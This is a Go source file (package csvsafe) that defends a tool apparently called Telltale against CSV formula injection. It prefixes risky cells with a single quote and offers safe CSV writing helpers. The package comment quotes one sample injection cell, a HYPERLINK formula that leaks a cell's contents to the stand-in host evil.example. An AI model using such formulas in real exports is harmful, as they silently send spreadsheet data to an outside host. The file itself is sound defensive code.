// Package csvsafe is the one place where Telltale makes the CSV files it writes safe to open in a
// spreadsheet. A monitored person chooses file names, email subjects and group names; a cell such as
// `=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")` would run as a formula in the analyst's
// spreadsheet (CSV or formula injection). Following OWASP, a cell that begins with = + - @, a tab or
// a carriage return is written with a single quote (') in front, then quoted as CSV requires: a
// spreadsheet shows it as text. Only the first byte is looked at, so the common case costs one
// comparison and no allocation.
//
// Every CSV writer goes through here: the export's hand-written row appender through AppendField,
// everything else through Writer (a drop-in for encoding/csv's). Readers of CSV files Telltale wrote
// (the scope upload) undo the prefix with Unneutralize.
package csvsafe

import (
	"encoding/csv"
	"io"
	"unicode"
	"unicode/utf8"
)

// trigger marks the first bytes that make a spreadsheet read a cell as a formula (or, for tab and
// CR, that some spreadsheets skip before reading one).
var trigger = [256]bool{'=': true, '+': true, '-': true, '@': true, '\t': true, '\r': true}

// Prefix is what goes in front of a risky cell.
const Prefix = '\''

// Risky reports whether a spreadsheet could read s as a formula.
func Risky(s string) bool { return s != "" && trigger[s[0]] }

// Cell returns s neutralised: with Prefix in front when it is Risky, unchanged otherwise (no
// allocation). Cell is idempotent: a neutralised cell begins with Prefix and is not Risky.
func Cell(s string) string {
	if Risky(s) {
		return string(Prefix) + s
	}
	return s
}

// Unneutralize undoes Cell for a value read back from a CSV file Telltale wrote: a Prefix followed
// by a trigger byte is dropped. A value that never needed the prefix keeps a leading quote.
func Unneutralize(s string) string {
	if len(s) >= 2 && s[0] == Prefix && trigger[s[1]] {
		return s[1:]
	}
	return s
}

// Record neutralises every cell of rec; it copies rec only when a cell changes.
func Record(rec []string) []string {
	out, copied := rec, false
	for i, s := range rec {
		if Risky(s) {
			if !copied {
				out, copied = append([]string(nil), rec...), true
			}
			out[i] = Cell(s)
		}
	}
	return out
}

// Writer is encoding/csv's Writer with every cell neutralised.
type Writer struct{ *csv.Writer }

// NewWriter returns a Writer to w with encoding/csv's defaults.
func NewWriter(w io.Writer) *Writer { return &Writer{csv.NewWriter(w)} }

// Write writes one record, its cells neutralised.
func (w *Writer) Write(rec []string) error { return w.Writer.Write(Record(rec)) }

// WriteAll writes the records, their cells neutralised, and flushes.
func (w *Writer) WriteAll(recs [][]string) error {
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// AppendField appends s as one CSV field, byte for byte what a Writer writes for it (encoding/csv's
// defaults: comma, "\n" line ends): neutralised, then quoted with quotes doubled when it holds a
// comma, a quote, "\r" or "\n", starts with a space, or is `\.`.
func AppendField(b []byte, s string) []byte {
	risky := Risky(s)
	if !needsQuotes(s, risky) {
		if risky {
			b = append(b, Prefix)
		}
		return append(b, s...)
	}
	b = append(b, '"')
	if risky {
		b = append(b, Prefix)
	}
	for i := 0; i < len(s); i++ {
		if s[i] == '"' {
			b = append(b, '"')
		}
		b = append(b, s[i])
	}
	return append(b, '"')
}

// needsQuotes is encoding/csv's rule for the field as written: s, with Prefix in front when
// prefixed (then the field neither starts with a space nor is `\.`).
func needsQuotes(s string, prefixed bool) bool {
	if s == "" {
		return false
	}
	if s == `\.` && !prefixed {
		return true
	}
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ',', '"', '\r', '\n':
			return true
		}
	}
	if prefixed {
		return false
	}
	r, _ := utf8.DecodeRuneInString(s)
	return unicode.IsSpace(r)
}
